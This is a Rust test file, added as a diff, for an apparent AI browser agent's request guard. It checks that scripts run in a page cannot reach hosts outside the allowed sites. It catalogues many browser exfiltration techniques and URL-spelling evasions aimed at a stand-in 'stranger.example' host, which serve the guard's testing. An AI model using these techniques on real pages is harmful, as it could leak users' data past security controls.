@@ -1,0 +1,630 @@
+//! Scripts that a run carries out in a page: what they give back, and that nothing which they send, then or
+//! later, leaves the run's sites.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod support;
+
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use axum::body::Body;
+use axum::http::{Request, Response, header};
+use copilot_browser::{CdpBrowser, connect};
+use copilot_guard::Policy;
+use copilot_guard::request::{Leave, of_script, request, sources};
+use copilot_ports::{
+    ActOptions, Browser, BrowserError, HeldRequest, ObserveOptions, PageRequest, RequestRule,
+    RequestVerdict,
+};
+use copilot_protocol::{Action, ActionOutcome, ActionStatus, Attach, Settings, StartTab};
+use serde_json::{Value, json};
+use support::{Chromium, DEADLINE, act_options, options};
+
+const STEP: Duration = Duration::from_millis(20);
+const HOME: &str = "http://home.example/";
+
+/// The guard's own decision.
+struct Rule(Policy);
+
+fn verdict(leave: Leave) -> RequestVerdict {
+    match leave {
+        Leave::Pass => RequestVerdict::Pass,
+        Leave::Ask(_) => RequestVerdict::Ask,
+        Leave::Refuse => RequestVerdict::Refuse,
+    }
+}
+
+impl RequestRule for Rule {
+    fn judge(&self, asked: &PageRequest) -> RequestVerdict {
+        verdict(request(&self.0, &asked.url, asked.main_frame, &asked.page))
+    }
+
+    fn judge_of_script(&self, asked: &PageRequest) -> RequestVerdict {
+        verdict(of_script(&self.0, &asked.url, &asked.page))
+    }
+
+    fn sources(&self, page: &str) -> Vec<String> {
+        sources(&self.0, page)
+    }
+}
+
+type Noted = Arc<Mutex<Vec<String>>>;
+
+/// A browser to which all names are servers on this machine: `home.example` and `second.example` are the
+/// run's sites, every other is a stranger, whose server notes what comes to it.
+struct Stage {
+    chromium: Chromium,
+    strangers: Noted,
+    near: Noted,
+}
+
+async fn serve(noted: Noted) -> u16 {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let app = axum::Router::new().fallback(move |request: Request<Body>| {
+        let noted = noted.clone();
+        async move { answer(&request, &noted) }
+    });
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    port
+}
+
+fn answer(request: &Request<Body>, noted: &Mutex<Vec<String>>) -> Response<Body> {
+    let host = request.headers().get("host").unwrap().to_str().unwrap();
+    let uri = request.uri();
+    if uri.path() != "/favicon.ico" {
+        noted
+            .lock()
+            .unwrap()
+            .push(format!("{} {host}{}", request.method(), uri.path()));
+    }
+    let page = match uri.path() {
+        "/redirect" => {
+            return Response::builder()
+                .status(302)
+                .header(header::LOCATION, "http://stranger.example/redirected")
+                .header("access-control-allow-origin", "*")
+                .body(Body::empty())
+                .unwrap();
+        }
+        // A part of the page that sends on what it is told.
+        "/widget" => {
+            "<script>onmessage = (e) => { new Image().src = 'http://stranger.example/told?' + e.data }</script>".to_owned()
+        }
+        "/framed" => "<iframe src='http://widget.example/widget'></iframe>".to_owned(),
+        "/clobbered" => {
+            "<form name=head></form><form name=createElement></form><form id=head></form>".to_owned()
+        }
+        path => format!("<h1>{path}</h1><p id=said>Words of the page</p>"),
+    };
+    Response::builder()
+        .header(header::CONTENT_TYPE, "text/html; charset=utf-8")
+        .header("access-control-allow-origin", "*")
+        .body(Body::from(format!("<!doctype html><title>T</title>{page}")))
+        .unwrap()
+}
+
+impl Stage {
+    async fn start() -> Self {
+        let (strangers, near) = (Noted::default(), Noted::default());
+        let far_port = serve(strangers.clone()).await;
+        let near_port = serve(near.clone()).await;
+        let chromium = Chromium::with_arguments(&[
+            &format!(
+                "--host-resolver-rules=MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND, \
+                 MAP *.gstatic.com ~NOTFOUND, MAP *.gvt1.com ~NOTFOUND, MAP *.google ~NOTFOUND, \
+                 MAP home.example 127.0.0.1:{near_port}, MAP second.example 127.0.0.1:{near_port}, \
+                 MAP * 127.0.0.1:{far_port}"
+            ),
+            "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode,HttpsFirstBalancedModeAutoEnable,LocalNetworkAccessChecks",
+            "--no-proxy-server",
+        ]);
+        Self {
+            chromium,
+            strangers,
+            near,
+        }
+    }
+
+    async fn run(&self, at: &str) -> Run {
+        let folder = tempfile::tempdir().unwrap();
+        let attach = Attach::Endpoint(self.chromium.endpoint.clone());
+        let browser = connect(&options(attach, folder.path())).await.unwrap();
+        let policy = Policy::new(
+            "look around",
+            Some(HOME),
+            &Settings::default(),
+            &["second.example".to_owned()],
+        );
+        browser.hold_requests(Arc::new(Rule(policy)));
+        browser.start(StartTab::New, Some(at)).await.unwrap();
+        Run {
+            browser,
+            _folder: folder,
+        }
+    }
+
+    fn strangers(&self) -> Vec<String> {
+        self.strangers.lock().unwrap().clone()
+    }
+
+    /// The server at home has heard of this path.
+    async fn heard(&self, path: &str) {
+        let end = Instant::now() + DEADLINE;
+        while !self.near.lock().unwrap().iter().any(|n| n.ends_with(path)) {
+            assert!(Instant::now() < end, "home never heard of {path}");
+            tokio::time::sleep(STEP).await;
+        }
+    }
+}
+
+struct Run {
+    browser: Arc<CdpBrowser>,
+    _folder: tempfile::TempDir,
+}
+
+impl Run {
+    async fn act(&self, action: &Action) -> ActionOutcome {
+        self.browser.act(action, &act_options()).await.unwrap()
+    }
+
+    /// As a run does it: the guard is told of the page, and then the code is run.
+    async fn code(&self, code: &str) -> ActionOutcome {
+        self.code_within(code, act_options()).await
+    }
+
+    async fn code_within(&self, code: &str, options: ActOptions) -> ActionOutcome {
+        let action = Action::RunCode { code: code.into() };
+        self.browser.facts(&action).await.unwrap();
+        self.browser.act(&action, &options).await.unwrap()
+    }
+
+    async fn go(&self, url: &str) {
+        self.act(&Action::Navigate { url: url.into() }).await;
+    }
+
+    async fn says(&self, expression: &str) -> Value {
+        let params = json!({"expression": expression, "returnByValue": true});
+        let told = self
+            .browser
+            .command_for_test(true, "Runtime.evaluate", params);
+        told.await.unwrap()["result"]["value"].clone()
+    }
+
+    async fn at(&self) -> String {
+        let look = self.browser.observe(&ObserveOptions::default()).await;
+        look.unwrap().url
+    }
+
+    async fn held(&self) -> Vec<HeldRequest> {
+        self.browser.held_requests().await
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_gives_its_result_or_says_why_not() {
+    let stage = Stage::start().await;
+    let run = stage.run(HOME).await;
+    for (code, text) in [
+        (
+            "return document.querySelector('#said').textContent",
+            "\"Words of the page\"",
+        ),
+        (
+            "async () => ({ a: [1, null], b: await Promise.resolve('ж') })",
+            r#"{"a":[1,null],"b":"ж"}"#,
+        ),
+        ("function () { return 7 }", "7"),
+        ("return 10n", "10"),
+        ("const a = {}; a.a = a; return a", "[object Object]"),
+        ("return '\\ud800'", "\"\\\\ud800\""),
+    ] {
+        let outcome = run.code(code).await;
+        assert_eq!(outcome.status, ActionStatus::Ok, "{code}: {outcome:?}");
+        assert_eq!(
+            outcome.text.as_deref(),
+            Some(text.replace("\\\\", "\\").as_str()),
+            "{code}"
+        );
+    }
+    let long = run.code("return 'x'.repeat(1e6)").await;
+    assert_eq!(long.text.unwrap().chars().count(), 20_001);
+    let nothing = run.code("document.title = 'Changed'").await;
+    assert_eq!((nothing.status, nothing.text), (ActionStatus::Ok, None));
+    assert_eq!(run.says("document.title").await, "Changed");
+    for (code, why, says) in [
+        (
+            "return missing.part",
+            "threw",
+            "ReferenceError: missing is not defined",
+        ),
+        ("await Promise.reject('a reason')", "threw", "a reason"),
+        ("return (", "could not be read", "SyntaxError"),
+    ] {
+        let outcome = run.code(code).await;
+        assert_eq!(outcome.status, ActionStatus::Other, "{code}: {outcome:?}");
+        assert!(outcome.detail.unwrap().contains(why), "{code}");
+        assert!(outcome.text.unwrap().contains(says), "{code}");
+    }
+    // A message of the page is the script's effect, and the run may answer it.
+    let asked = run
+        .code("const said = confirm('Go on?'); document.title = 'said ' + said")
+        .await;
+    assert!(asked.detail.unwrap().contains("Go on?"));
+    let accept = Action::HandleDialog {
+        accept: true,
+        text: None,
+    };
+    assert!(run.act(&accept).await.status.is_ok());
+    let end = Instant::now() + DEADLINE;
+    while run.says("document.title").await != "said true" {
+        assert!(Instant::now() < end, "the script did not go on");
+        tokio::time::sleep(STEP).await;
+    }
+    // One that does not end is ended, and the page lives.
+    let brief = || ActOptions {
+        deadline: Duration::from_secs(2),
+        ..act_options()
+    };
+    for code in ["while (true) {}", "await new Promise(() => {})"] {
+        let outcome = run.code_within(code, brief()).await;
+        assert_eq!(outcome.status, ActionStatus::Timeout, "{code}: {outcome:?}");
+        assert_eq!(
+            run.code("return 1").await.text.as_deref(),
+            Some("1"),
+            "after {code}"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_script_runs_in_the_document_that_it_was_judged_for_alone() {
+    let stage = Stage::start().await;
+    let run = stage.run(HOME).await;
+    let action = Action::RunCode {
+        code: "document.title = 'ran'".into(),
+    };
+    // Never judged.
+    let outcome = run.act(&action).await;
+    assert_eq!(outcome.status, ActionStatus::FingerprintChanged);
+    // Another document has the same address: it is another one to the guard, and to the browser.
+    let before = run.browser.facts(&action).await.unwrap();
+    run.act(&Action::Reload).await;
+    let outcome = run.act(&action).await;
+    assert_eq!(outcome.status, ActionStatus::FingerprintChanged);
+    let after = run.browser.facts(&action).await.unwrap();
+    assert_eq!(before.page_url, after.page_url);
+    assert_ne!(
+        copilot_guard::fingerprint(&action, &before),
+        copilot_guard::fingerprint(&action, &after)
+    );
+    // One judgement is good for one use.
+    assert_eq!(run.act(&action).await.status, ActionStatus::Ok);
+    assert_eq!(run.says("document.title").await, "ran");
+    assert_eq!(
+        run.act(&action).await.status,
+        ActionStatus::FingerprintChanged
+    );
+    // Where nothing holds requests no script is run.
+    let folder = tempfile::tempdir().unwrap();
+    let attach = Attach::Endpoint(stage.chromium.endpoint.clone());
+    let free = connect(&options(attach, folder.path())).await.unwrap();
+    free.start(StartTab::New, Some(HOME)).await.unwrap();
+    free.facts(&action).await.unwrap();
+    let outcome: Result<ActionOutcome, BrowserError> = free.act(&action, &act_options()).await;
+    assert_eq!(outcome.unwrap().status, ActionStatus::NotActionable);
+}
+
+/// Ways to send something to the stranger; `T` is the stranger's address, with a path of its own.
+const WAYS: &[(&str, &str)] = &[
+    (
+        "fetch",
+        "try { await fetch(T, {mode: 'no-cors'}) } catch {}",
+    ),
+    (
+        "fetch-keepalive",
+        "try { await fetch(T, {mode: 'no-cors', method: 'POST', keepalive: true, body: 'x'}) } catch {}",
+    ),
+    (
+        "xhr",
+        "const x = new XMLHttpRequest(); x.open('POST', T); x.send('data')",
+    ),
+    (
+        "xhr-sync",
+        "const x = new XMLHttpRequest(); x.open('GET', T, false); try { x.send() } catch {}",
+    ),
+    ("beacon", "navigator.sendBeacon(T, 'data')"),
+    ("image", "new Image().src = T"),
+    (
+        "image-in-page",
+        "document.body.insertAdjacentHTML('beforeend', `<img src='${T}'>`)",
+    ),
+    ("style", "document.body.style.backgroundImage = `url(${T})`"),
+    (
+        "stylesheet",
+        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = T; document.head.append(l)",
+    ),
+    (
+        "script",
+        "const s = document.createElement('script'); s.src = T; document.head.append(s)",
+    ),
+    ("import", "try { await import(T) } catch {}"),
+    (
+        "video",
+        "const v = document.createElement('video'); v.src = T; document.body.append(v)",
+    ),
+    (
+        "prefetch",
+        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = T; document.head.append(l)",
+    ),
+    (
+        "preload",
+        "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.href = T; document.head.append(l)",
+    ),
+    ("events", "new EventSource(T)"),
+    (
+        "socket",
+        "try { new WebSocket(T.replace('http', 'ws')) } catch {}",
+    ),
+    (
+        "frame",
+        "const f = document.createElement('iframe'); f.src = T; document.body.append(f)",
+    ),
+    (
+        "frame-inside",
+        "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(T, {mode: 'no-cors'}).catch(() => 0); try { new f.contentWindow.WebSocket(T.replace('http', 'ws')) } catch {}",
+    ),
+    (
+        "frame-home",
+        "const f = document.createElement('iframe'); f.src = '/inner'; f.onload = () => { try { new f.contentWindow.WebSocket(T.replace('http', 'ws')) } catch {} }; document.body.append(f)",
+    ),
+    (
+        "frame-srcdoc",
+        "const f = document.createElement('iframe'); f.srcdoc = `<img src='${T}'><script>new WebSocket('${T}'.replace('http', 'ws'))</scr` + `ipt>`; document.body.append(f)",
+    ),
+    (
+        "object",
+        "const o = document.createElement('object'); o.data = T; document.body.append(o)",
+    ),
+    (
+        "worker",
+        "try { new Worker(URL.createObjectURL(new Blob([`fetch('${T}', {mode: 'no-cors'})`]))) } catch {}",
+    ),
+    (
+        "ping",
+        "const a = document.createElement('a'); a.href = '#x'; a.ping = T; document.body.append(a); a.click()",
+    ),
+    (
+        "redirect",
+        "try { await fetch('/redirect', {mode: 'no-cors'}) } catch {}",
+    ),
+    (
+        "later",
+        "setTimeout(() => { new Image().src = T; fetch(T, {mode: 'no-cors'}).catch(() => 0) }, 400)",
+    ),
+    ("window", "window.open(T)"),
+];
+
+/// The same by leaving the page.
+const LEAVES: &[(&str, &str)] = &[
+    ("location", "location.href = T"),
+    (
+        "location-later",
+        "setTimeout(() => { location.assign(T) }, 400)",
+    ),
+    (
+        "form-get",
+        "document.body.innerHTML = `<form action='${T}'><input name=a value=b></form>`; document.forms[0].submit()",
+    ),
+    (
+        "form-post",
+        "document.body.innerHTML = `<form method=post action='${T}'><input name=a value=b></form>`; document.forms[0].submit()",
+    ),
+    (
+        "link",
+        "const a = document.createElement('a'); a.href = T; document.body.append(a); a.click()",
+    ),
+    (
+        "refresh",
+        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${T}`; document.head.append(m)",
+    ),
+    ("redirect", "location.href = '/redirect'"),
+];
+
+fn aimed(name: &str, code: &str, at: &str) -> String {
+    format!("const T = '{at}{name}'; {code}; setTimeout(() => fetch('/after-{name}'), 600)")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_script_sends_stays_within_the_runs_sites() {
+    let stage = Stage::start().await;
+    let run = stage.run(HOME).await;
+    for (name, code) in WAYS {
+        run.go(HOME).await;
+        let outcome = run
+            .code(&aimed(name, code, "http://stranger.example/"))
+            .await;
+        assert!(outcome.status.is_ok(), "{name}: {outcome:?}");
+        stage.heard(&format!("/after-{name}")).await;
+        assert_eq!(stage.strangers(), Vec::<String>::new(), "{name}");
+        assert_eq!(run.at().await.trim_end_matches("#x"), HOME, "{name}");
+        run.held().await;
+    }
+    for (name, code) in LEAVES {
+        run.go(HOME).await;
+        run.held().await;
+        run.code(&aimed(
+            &format!("leave-{name}"),
+            code,
+            "http://stranger.example/",
+        ))
+        .await;
+        stage.heard(&format!("/after-leave-{name}")).await;
+        assert_eq!(stage.strangers(), Vec::<String>::new(), "{name}");
+        assert!(run.at().await.starts_with(HOME), "{name}");
+        assert!(!run.held().await.iter().any(|held| !held.refused), "{name}");
+    }
+    // Within the run's sites it sends what it likes, and goes where it likes.
+    run.go(HOME).await;
+    let both = "const a = await fetch('/own'); const b = await fetch('http://second.example/other'); return [a.ok, b.ok]";
+    assert_eq!(run.code(both).await.text.as_deref(), Some("[true,true]"));
+    run.code("document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
+    stage.heard("POST home.example/posted").await;
+    assert_eq!(stage.strangers(), Vec::<String>::new());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_was_stopped_is_told() {
+    let stage = Stage::start().await;
+    for (name, code) in [
+        ("fetch", "fetch(T).catch(() => 0)"),
+        ("socket", "new WebSocket(T.replace('http', 'ws'))"),
+        ("location", "location.href = T"),
+        ("window", "window.open(T)"),
+    ] {
+        let run = stage.run(HOME).await;
+        let outcome = run
+            .code(&aimed(name, code, "http://stranger.example/"))
+            .await;
+        let held = run.held().await;
+        assert!(held.iter().all(|h| h.refused), "{name}: {held:?}");
+        // A window may be kept shut by the browser itself.
+        if name != "window" {
+            let detail = outcome.detail.unwrap_or_default();
+            assert!(
+                detail.contains("requests to stranger.example were stopped"),
+                "{name}: {detail:?}"
+            );
+            assert!(
+                held.iter().any(|h| h.url.contains("stranger.example")),
+                "{name}: {held:?}"
+            );
+        }
+        run.browser.close().await;
+    }
+    assert_eq!(stage.strangers(), Vec::<String>::new());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn other_spellings_frames_and_traps_change_nothing() {
+    let stage = Stage::start().await;
+    let run = stage.run(HOME).await;
+    for (n, to) in [
+        "//stranger.example/a",
+        "HTTP://STRANGER.EXAMPLE/a",
+        "http://stranger%2eexample/a",
+        "http://home.example@stranger.example/a",
+        "http://stranger。example/a",
+        "http:\\\\\\\\stranger.example/a",
+        "http://stranger.example./a",
+        "http://home.example.stranger.example/a",
+        "http://2130706433/a",
+        "http://0x7f.1/a",
+        "http://[::ffff:127.0.0.1]/a",
+        "http://home.example:80@127.1/a",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let code = format!(
+            "const T = '{to}'; new Image().src = T; fetch(T, {{mode: 'no-cors'}}).catch(() => 0); \
+             navigator.sendBeacon(T); setTimeout(() => fetch('/spelled-{n}'), 100)"
+        );
+        assert!(run.code(&code).await.status.is_ok(), "{to}");
+        stage.heard(&format!("/spelled-{n}")).await;
+        assert_eq!(stage.strangers(), Vec::<String>::new(), "{to}");
+    }
+    // A page that has given its own things the names that the hold needs.
+    run.go("http://home.example/clobbered").await;
+    let outcome = run
+        .code(&aimed(
+            "clobbered",
+            "new WebSocket(T.replace('http', 'ws'))",
+            "http://stranger.example/",
+        ))
+        .await;
+    assert!(outcome.status.is_ok(), "{outcome:?}");
+    stage.heard("/after-clobbered").await;
+    assert_eq!(stage.strangers(), Vec::<String>::new());
+    // What is sent while the page is left, when the next document is there already.
+    run.go(HOME).await;
+    let leaving = "addEventListener('pagehide', () => { navigator.sendBeacon('http://stranger.example/left', 'x'); \
+                   new Image().src = 'http://stranger.example/left'; fetch('http://stranger.example/left', {keepalive: true, mode: 'no-cors'}) })";
+    assert!(run.code(leaving).await.status.is_ok());
+    run.go("http://home.example/next").await;
+    run.says("fetch('/left-behind')").await;
+    stage.heard("/left-behind").await;
+    assert_eq!(stage.strangers(), Vec::<String>::new());
+    // A frame of a stranger that sends on what it is told: its own requests are held with the page's.
+    run.go("http://home.example/framed").await;
+    let end = Instant::now() + DEADLINE;
+    while run.says("frames.length").await != 1
+        || !stage.strangers().iter().any(|s| s.contains("/widget"))
+    {
+        assert!(Instant::now() < end, "the frame did not come");
+        tokio::time::sleep(STEP).await;
+    }
+    run.browser
+        .observe(&ObserveOptions::default())
+        .await
+        .unwrap();
+    assert!(
+        run.code(
+            "frames[0].postMessage('words', '*'); setTimeout(() => fetch('/posted-to-frame'), 600)"
+        )
+        .await
+        .status
+        .is_ok()
+    );
+    stage.heard("/posted-to-frame").await;
+    assert!(
+        !stage.strangers().iter().any(|s| s.contains("/told")),
+        "{:?}",
+        stage.strangers()
+    );
+    // The next document of the page is as free as ever.
+    run.go("http://home.example/after").await;
+    run.says("new Image().src = 'http://stranger.example/picture'")
+        .await;
+    let end = Instant::now() + DEADLINE;
+    while !stage.strangers().iter().any(|s| s.contains("/picture")) {
+        assert!(Instant::now() < end, "the next document is still held");
+        tokio::time::sleep(STEP).await;
+    }
+}
+
+/// Without the hold each of the ways arrives, so the test above can fail.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_ways_work_where_nothing_is_held() {
+    let stage = Stage::start().await;
+    let folder = tempfile::tempdir().unwrap();
+    let attach = Attach::Endpoint(stage.chromium.endpoint.clone());
+    let browser = connect(&options(attach, folder.path())).await.unwrap();
+    browser.start(StartTab::New, Some(HOME)).await.unwrap();
+    let run = Run {
+        browser,
+        _folder: folder,
+    };
+    let mut lame = Vec::new();
+    let all = WAYS
+        .iter()
+        .map(|w| ("", w))
+        .chain(LEAVES.iter().map(|w| ("leave-", w)));
+    for (kind, (name, code)) in all {
+        run.go(HOME).await;
+        stage.strangers.lock().unwrap().clear();
+        let code = aimed(&format!("{kind}{name}"), code, "http://stranger.example/");
+        let code = format!("(async () => {{ {code} }})(); 0");
+        run.says(&code).await;
+        let end = Instant::now() + Duration::from_secs(4);
+        while stage.strangers().is_empty() && Instant::now() < end {
+            tokio::time::sleep(STEP).await;
+        }
+        if stage.strangers().is_empty() {
+            lame.push(format!("{kind}{name}"));
+        }
+    }
+    // Windows need a press of a person.
+    lame.retain(|name| name != "window");
+    assert_eq!(lame, Vec::<String>::new());
+}
